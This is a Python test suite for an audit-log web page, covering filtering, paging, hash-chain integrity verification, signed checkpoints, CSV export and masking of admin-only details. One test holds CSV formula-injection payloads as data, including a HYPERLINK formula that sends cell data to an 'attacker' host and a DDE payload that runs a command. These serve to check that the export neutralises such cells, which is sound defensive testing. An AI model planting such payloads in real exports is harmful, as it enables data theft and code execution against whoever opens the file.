"""Audit log page: filters, keyset pages, integrity check naming the edited event, CSV export."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import text

from core import audit
from core.actors import cli_actor
from core.platform.database import transaction


def add_events(factory, n: int, subject: str = "model:churn") -> None:
    with transaction(factory) as s:
        for i in range(n):
            audit.record(s, cli_actor(), "test.event", subject, {"i": i})


def test_filter_pages_and_timeline(open_page, factory):
    add_events(factory, 120)
    add_events(factory, 3, subject="dataset:other")
    at = open_page("app_pages/audit.py", role="viewer")
    at.text_input[1].input("model:churn").run()
    assert "120 matching events · page 1 of 3" in at.caption[1].value
    first = at.dataframe[0].value
    assert len(first) == 50 and set(first["subject"]) == {"model:churn"}
    next(b for b in at.button if b.label == "Older").click().run()
    second = at.dataframe[0].value
    assert second["#"].max() < first["#"].min()
    assert at.get("plotly_chart"), "a subject filter shows its timeline"


def verdicts(factory) -> list[tuple[str, bool]]:
    with factory() as s:
        return [(e.actor, e.details["ok"]) for e in reversed(audit.recent(s)) if e.action == "audit.verified"]


def test_verify_integrity_names_the_edited_event_and_records_each_verdict(open_page, factory):
    add_events(factory, 10)
    at = open_page("app_pages/audit.py", role="viewer")
    next(b for b in at.button if b.label == "Verify integrity").click().run()
    assert at.success[0].value.startswith("Chain intact")
    with transaction(factory) as s:
        s.execute(text("UPDATE audit_events SET subject = 'model:other' WHERE seq = 5"))
    next(b for b in at.button if b.label == "Verify integrity").click().run()
    assert "Chain broken at event 5" in at.error[0].value
    assert verdicts(factory) == [("viewer-user", True), ("viewer-user", False)]  # as the CLI and the job do


def test_verify_integrity_checks_the_signed_checkpoints_too(open_page, factory, settings):
    import json

    from core import audit_checkpoints

    at = open_page("app_pages/audit.py", role="viewer")
    add_events(factory, 5)
    audit_checkpoints.ensure_key(settings)
    audit_checkpoints.write(factory, settings, actor=cli_actor())
    log = audit_checkpoints.log_path(settings)
    signed = json.loads(log.read_text())
    log.write_text(json.dumps(signed | {"hash": "0" * 64}, sort_keys=True, separators=(",", ":")) + "\n")
    next(b for b in at.button if b.label == "Verify integrity").click().run()
    assert "Chain not verified: checkpoint 1 has a bad signature" in at.error[0].value


def test_csv_export_of_the_filter(factory):
    add_events(factory, 4)
    add_events(factory, 2, subject="dataset:x")
    with factory() as s:
        csv_text = audit.export_csv(s, reader=cli_actor(), where=audit.EventFilter(subject="dataset:x"))
    lines = csv_text.strip().splitlines()
    assert lines[0].startswith("seq,ts,actor,action,subject,details,prev_hash,hash")
    assert len(lines) == 3 and all("dataset:x" in line for line in lines[1:])


@pytest.mark.parametrize("payload", ['=HYPERLINK("http://attacker/?"&A1,"open")', "+1+cmd|' /C calc'!A0",
                                     "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
def test_csv_export_cells_cannot_run_as_formulas(factory, payload):
    with transaction(factory) as s:
        audit.record(s, payload, "dataset.registered", payload, {"note": payload})
        audit.record(s, "ann", "dataset.registered", "dataset:safe", {})
    with factory() as s:
        rows = list(csv.reader(io.StringIO(audit.export_csv(s, reader=cli_actor(), where=audit.EventFilter()))))
    attacked, plain = rows[1], rows[2]
    assert attacked[2] == attacked[4] == "'" + payload  # actor and subject: shown as text
    assert attacked[5].startswith("{")  # the details JSON is untouched (it cannot start a formula)
    assert (plain[2], plain[4]) == ("ann", "dataset:safe")  # ordinary text and numbers unchanged
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_viewers_see_no_admin_configuration_details(open_page, factory):
    with transaction(factory) as s:  # a row from before masking: the Slack URL in its details
        audit.record(s, cli_actor(), "alert_channel.added", "alert_channel:slack",
                     {"config": {"url": "https://hooks.slack.com/services/T1/B1/SECRETPATH"}})
    viewer = open_page("app_pages/audit.py", role="viewer")
    details = " ".join(viewer.dataframe[0].value["details"])
    assert "SECRETPATH" not in details and "shown to admins only" in details
    admin = open_page("app_pages/audit.py", role="admin")
    assert "SECRETPATH" in " ".join(admin.dataframe[0].value["details"])


def test_long_details_are_cut_with_an_ellipsis_and_open_whole(open_page, factory):
    """Issue 19 item 5: a cut cell says it is cut (never "0.81" of 0.8123 unmarked), and the event opens whole."""
    import json

    details = {"diff": "- required: false\n+ required: true\n" * 20, "score": 0.8123456789}
    with transaction(factory) as s:
        audit.record(s, cli_actor(), "policy.saved", "policy:default", details)
    at = open_page("app_pages/audit.py", role="admin")
    row = at.dataframe[0].value.set_index("action").loc["policy.saved"]  # (opening the page adds a user first)
    assert row["details"].endswith("…") and len(row["details"]) <= 72 and row["details"].startswith("diff: - requ")
    at.selectbox(key="audit-details").select(int(row["#"])).run()
    assert json.loads(at.json[0].value) == details
